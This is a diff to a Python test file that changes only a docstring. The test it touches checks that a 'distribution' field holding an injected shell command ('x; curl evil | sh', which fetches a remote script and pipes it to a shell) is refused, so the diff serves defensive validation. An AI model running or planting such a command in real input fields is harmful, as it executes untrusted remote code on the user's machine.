@@ -106,7 +106,7 @@ class TestStates:
         assert "dtype is" in refused(host, folder)
 
     def test_a_distribution_that_is_a_command(self, host: Host, folder: Path, rewrite: Rewrite) -> None:
-        """The distribution stands in the line that a person is told to type."""
+        """The distribution stands in the line that a person is to type."""
         rewrite(lambda facts: facts.update(distribution="x; curl evil | sh"))
         said = refused(host, folder)
         assert "is not as it was written: distribution" in said
